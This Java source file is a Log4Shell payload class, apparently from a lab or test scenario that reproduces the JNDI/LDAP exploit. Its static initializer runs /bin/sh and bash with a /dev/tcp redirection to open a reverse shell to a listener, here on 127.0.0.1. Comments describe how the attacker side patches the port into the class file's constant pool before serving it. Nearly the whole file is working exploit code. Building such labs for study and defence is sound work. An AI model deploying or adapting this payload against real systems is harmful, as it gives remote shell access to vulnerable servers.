import java.util.Hashtable;
import javax.naming.Context;
import javax.naming.Name;
import javax.naming.spi.ObjectFactory;

/**
 * The attacker's class, fetched by the victim JVM from the javaCodeBase of the LDAP entry
 * and initialised because the entry names it as javaFactory.
 *
 * <p>Like the real exploits, the work happens in the static initializer, before JNDI even
 * checks that the class is an ObjectFactory: Runtime.exec of /bin/sh, which hands over to
 * bash for its /dev/tcp redirection (Debian's /bin/sh is dash and has none), and bash then
 * replaces itself with /bin/sh reading commands from, and writing output to, the socket.
 *
 * <p>The listener's port is a constant of this class: the attacker side patches the
 * fixed-width "LPORT=00000" string in the class file's constant pool before serving it,
 * as an attacker builds the payload with their own address.
 */
public class Log4ShellPayload implements ObjectFactory {
    private static final String LISTENER = "LPORT=00000";

    static {
        try {
            int port = Integer.parseInt(LISTENER.substring("LPORT=".length()));
            String redirect = "exec /bin/sh 0<>/dev/tcp/127.0.0.1/" + port + " 1>&0 2>&0";
            Runtime.getRuntime().exec(new String[] {"/bin/sh", "-c", "exec /bin/bash -c '" + redirect + "'"});
        } catch (Exception e) {
            // A real payload stays silent; the scenario observes the effects from outside.
        }
    }

    @Override
    public Object getObjectInstance(Object obj, Name name, Context nameCtx, Hashtable<?, ?> environment) {
        return "Log4ShellPayload";
    }
}
